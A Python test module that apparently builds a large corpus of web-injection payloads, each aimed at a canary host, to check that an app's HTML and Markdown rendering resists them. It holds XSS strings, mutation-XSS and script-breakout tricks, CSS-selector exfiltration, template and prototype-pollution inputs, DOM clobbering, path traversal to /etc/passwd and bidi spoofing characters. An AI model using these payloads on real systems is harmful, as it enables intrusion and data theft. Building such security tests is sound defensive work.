"""What somebody might say to get out of the page: each calls a canary, raises a dialog, or leaves an element behind.

Whatever becomes an element has the class `hostile`, so that a page can be asked for it.
"""

from itertools import product

from tests.report.test_html import NASTY

RUN = "alert(1)"

LOADING = [
    '<img class=hostile src="{u}">', '<img class=hostile srcset="{u} 2x">', "<IMG CLASS=hostile SRC={u}>",
    '<picture class=hostile><source class=hostile srcset="{u}"><img class=hostile></picture>',
    '<video class=hostile src="{u}" autoplay></video>', '<video class=hostile poster="{u}"></video>',
    '<audio class=hostile src="{u}" autoplay></audio>', '<track class=hostile src="{u}" default>',
    '<iframe class=hostile src="{u}"></iframe>', '<iframe class=hostile srcdoc="<img src={u}>"></iframe>',
    '<object class=hostile data="{u}"></object>', '<embed class=hostile src="{u}">',
    '<applet class=hostile code="{u}"></applet>',
    '<frameset class=hostile><frame class=hostile src="{u}"></frameset>',
    '<link class=hostile rel=stylesheet href="{u}">', '<link class=hostile rel=preload as=image href="{u}">',
    '<link class=hostile rel=prefetch href="{u}">', '<link class=hostile rel=prerender href="{u}">',
    '<link class=hostile rel=dns-prefetch href="{u}">', '<link class=hostile rel=preconnect href="{u}">',
    '<link class=hostile rel=modulepreload href="{u}">', '<link class=hostile rel=import href="{u}">',
    '<link class=hostile rel=icon href="{u}">', '<link class=hostile rel=manifest href="{u}">',
    '<script class=hostile src="{u}"></script>', '<script class=hostile type=module src="{u}"></script>',
    '<script class=hostile type=importmap>{"imports":{"react":"{u}"}}</script>',
    '<script class=hostile type=speculationrules>{"prefetch":[{"source":"list","urls":["{u}"]}]}</script>',
    '<base class=hostile href="{u}">', '<meta class=hostile http-equiv=refresh content="0;url={u}">',
    '<meta class=hostile http-equiv="Content-Security-Policy" content="default-src *">',
    '<form class=hostile action="{u}"><input class=hostile name=a autofocus><button class=hostile>go</button></form>',
    '<button class=hostile formaction="{u}">go</button>', '<input class=hostile type=image src="{u}">',
    '<isindex class=hostile action="{u}">', '<a class=hostile href="{u}" ping="{u}">x</a>',
    '<body class=hostile background="{u}">', '<table class=hostile background="{u}"><tr><td>x</td></tr></table>',
    "<div class=hostile style=\"background:url('{u}')\">x</div>",
    '<p class=hostile style="list-style:url({u})">x</p>', '<style class=hostile>@import "{u}";</style>',
    "<style class=hostile>*{background:url({u})!important}</style>",
    "<style class=hostile>@font-face{font-family:x;src:url({u})}body{font-family:x}</style>",
    "<style class=hostile>input[value^=a]{background:url({u})}</style>", "@import url({u});",
    "*{cursor:url({u}),auto}", '<svg class=hostile><image class=hostile href="{u}"/></svg>',
    '<svg class=hostile><image class=hostile xlink:href="{u}"/></svg>',
    '<svg class=hostile><use class=hostile xlink:href="{u}#x"/></svg>',
    '<svg class=hostile><feImage class=hostile href="{u}"/></svg>',
    '<svg class=hostile><foreignObject><iframe class=hostile src="{u}"></iframe></foreignObject></svg>',
    '<math class=hostile href="{u}"><mtext>x</mtext></math>',
    '<math class=hostile><annotation-xml encoding="text/html"><img class=hostile src="{u}"></annotation-xml></math>',
    '<portal class=hostile src="{u}"></portal>', '<fencedframe class=hostile src="{u}"></fencedframe>',
    '<template class=hostile shadowrootmode=open><img class=hostile src="{u}"></template>',
    '<div class=hostile is=x-y data-src="{u}" hx-get="{u}" hx-trigger=load>x</div>',
]  # fmt: skip
"""Elements that fetch something or lead away."""

MARKDOWN = [
    "![x]({u})", "![x](<{u}>)", '![x]({u} "title")', "![x][a]\n\n[a]: {u}", "![a][]\n\n[a]: {u}", "![a]\n\n[a]: {u}",
    "[![x]({u})]({u})", "# ![x]({u})", "> ![x]({u})", "- ![x]({u})", "1. ![x]({u})", "- [x] ![x]({u})",
    "| a |\n|---|\n| ![x]({u}) |", "a[^1]\n\n[^1]: ![x]({u})", "*![x]({u})*", "~~![x]({u})~~", "`![x]({u})`",
    "![x]({u}", "!\\[x]({u})", "![![x]({u})]({u})", "[x]({u})", "<{u}>", "{u}", "www.{host}/x", "[x]: {u}",
    '[x]({u} "\\" onmouseover=alert(1)")', "[x](<{u}> '\"><img class=hostile src={u}>')",
    "[<img class=hostile src={u}>]({u})", "[x\"onerror=alert(1)]({u})", "```html\n<img class=hostile src={u}>\n```",
    "    <img class=hostile src={u}>", "~~~\"><img class=hostile src={u}>\nx\n~~~",
    "a\n<img class=hostile src={u}>\nb", "**<img class=hostile src={u}>**",
    "<details class=hostile open>\n\n![x]({u})\n\n</details>", "x@{host}", "<x@{host}>",
    "![x](data:image/svg+xml,{u})",
]  # fmt: skip

SCHEMES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java&#x09;script:{RUN}",
    f"&#106;avascript:{RUN}", f"\x01javascript:{RUN}", f"javascript&colon;{RUN}", f"javascript://%0a{RUN}",
    f"%6aavascript:{RUN}", "vbscript:msgbox(1)", f"data:text/html,<script class=hostile>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg class=hostile onload={RUN}>", "file:///etc/passwd", "blob:null/x", "view-source:{u}",
    "//{host}/x", "\\\\{host}\\x", "/api/session",
]  # fmt: skip
LINKS = ['<a class=hostile href="{s}">x</a>', "[x]({s})", "[x](<{s}>)", "![x](<{s}>)", "[x][y]\n\n[y]: <{s}>", "<{s}>"]

TAGS = ["img src=x", "svg", "body", "iframe", "details open", "input autofocus", "video src=x", "a href=#", "marquee"]
EVENTS = ["onload", "onerror", "onfocus", "ontoggle", "onpointerenter", "onanimationstart"]

CLOSING = [
    "</script>", "</title>", "</style>", "</textarea>", "</noscript>", "</template>", "</select>", "</svg>",
    "</math>", "</xmp>", "</iframe>", "</plaintext>", '">', "'>", "-->", "--!>", "]]>", "*/", "`", '"}]}</script>',
    "\u2028", "<!--", "<![CDATA[", "<?x ", "<!x ", "\\u003c/script\\u003e",
]  # fmt: skip
BREAKOUTS = [f"<script class=hostile>{RUN}</script>", f"<img class=hostile src={{u}} onerror={RUN}>"]

MUTATING = [
    f"<math class=hostile><mtext><table><mglyph><style><!--</style><img class=hostile src={{u}} onerror={RUN}>",
    f"<svg class=hostile></p><style><a id=\"</style><img class=hostile src={{u}} onerror={RUN}>\">",
    f"<noscript class=hostile><p title=\"</noscript><img class=hostile src={{u}} onerror={RUN}>\">",
    f"<form class=hostile><math><mtext></form><form><mglyph><style></math><img class=hostile src={{u}} onerror={RUN}>",
    f"<select class=hostile><template><style><!--</style><a rel=\"--></style></template><img src={{u}} onerror={RUN}>",
    f"<xmp class=hostile><p title=\"</xmp><img class=hostile src={{u}} onerror={RUN}>\">",
    f"<listing class=hostile>&lt;img src={{u}} onerror={RUN}&gt;</listing>",
    f"<svg class=hostile><animate onbegin={RUN} attributeName=x>",
    f"<svg class=hostile><a><animate attributeName=href values=javascript:{RUN} /><text y=9>x</text></a></svg>",
    f"<svg class=hostile><set attributeName=onmouseover to={RUN}></svg>",
    f"<x class=hostile contenteditable onfocus={RUN} autofocus>", f"<svg/class=hostile/onload={RUN}>",
    f"<<script class=hostile>{RUN}//<</script>", f"<scr<script class=hostile>ipt>{RUN}</script>",
    f"＜script class=hostile＞{RUN}＜/script＞", f"+ADw-script class=hostile+AD4-{RUN}+ADw-/script+AD4-",
    f"%3Cscript class=hostile%3E{RUN}%3C/script%3E", f"&lt;script class=hostile&gt;{RUN}&lt;/script&gt;",
    f"<script class=hostile nonce=>{RUN}</script>", "<script class=hostile src=/assets/../api/about></script>",
    "<script class=hostile src=data:,alert(1)></script>", "<div class=hostile dangerouslySetInnerHTML={{__html:1}}>",
]  # fmt: skip

CODE = [
    "{{constructor.constructor('alert(1)')()}}", "{{7*7}}", "${alert(1)}", "<%= 7*7 %>", "#{7*7}", "@{7*7}",
    "[[${7*7}]]", "{% raw %}", "{!! x !!}", "*{T(java.lang.Runtime)}", "<div class=hostile ng-app ng-csp>{{x}}</div>",
    "<div class=hostile v-html=x></div>", "<div class=hostile x-data x-init=alert(1)></div>", "'-alert(1)-'",
    "\"-alert(1)-\"", "`${alert(1)}`", ";alert(1)//", "\\');alert(1)//", "</script", "<script", "<", "<a", "<a ", "&",
    "&#", "&#x1;", "\\", "\\u2028", '{"__proto__":{"hostile":1}}', '{"constructor":{"prototype":{"hostile":1}}}',
    "__proto__[hostile]=1", '{"toString":null}', "NaN", "-1", "1e999", "%s%n%x", "$&$1$`", "=HYPERLINK(\"{u}\")",
]  # fmt: skip

CLOBBERING = [
    f"<a class=hostile id={name} name={name} href={{u}}>x</a>"
    for name in (
        "root",
        "shared-debate",
        "location",
        "document",
        "cookie",
        "SHARED_VIEW",
        "__proto__",
        "addEventListener",
    )
]

SIGNS = [
    "\u202etxt.exe\u202c", "\u2066a\u2069", "\u200b\u200c\u200d\u2060", "\ufeff", "\u00ad", "\u2028", "\u2029",
    "\u0085", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;{u}\x1b\\link\x1b]8;;\x1b\\", "\x9b31m", "\x00",
    "\x08\x7f", "\r", "\x0b\x0c", "Z" + "\u0301" * 60, "\U000e0041\U000e0042", "\ufff9a\ufffab\ufffb",
    "\U0001f468\u200d\U0001f469", "ﷺ" * 20, "\ud7ff\ue000",
]  # fmt: skip

NAMES = [
    "__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "valueOf", "length", "undefined", "null",
    "true", "root", "shared-debate", "location", ".", "..", "../../../etc/passwd", "..%2f..%2fapi", "%00", "%E0%A4%A",
    "%", "#", "?", "/", "//{host}", "a/b?c#d", "#/debates/x", "/debates/x/../../api/about", "C:\\x", "a b", "'", '"',
    "~", "0", "",
]  # fmt: skip
"""What an id might be called."""


def payloads(host):
    """All of them, for a canary that is reached under this name."""
    links = [link.replace("{s}", scheme) for link, scheme in product(LINKS, SCHEMES)]
    handlers = [f"<{tag} class=hostile {event}={RUN}>" for tag, event in product(TAGS, EVENTS)]
    breakouts = [closing + then for closing, then in product(CLOSING, BREAKOUTS)]
    ours = [*LOADING, *MARKDOWN, *links, *breakouts, *MUTATING, *CODE, *CLOBBERING, *SIGNS, *NAMES]
    theirs = [text.replace("evil.example", "{host}") for text in NASTY]
    every = dict.fromkeys([*ours, *handlers, *theirs])
    return [text.replace("{u}", f"http://{host}/x").replace("{host}", host) for text in every]
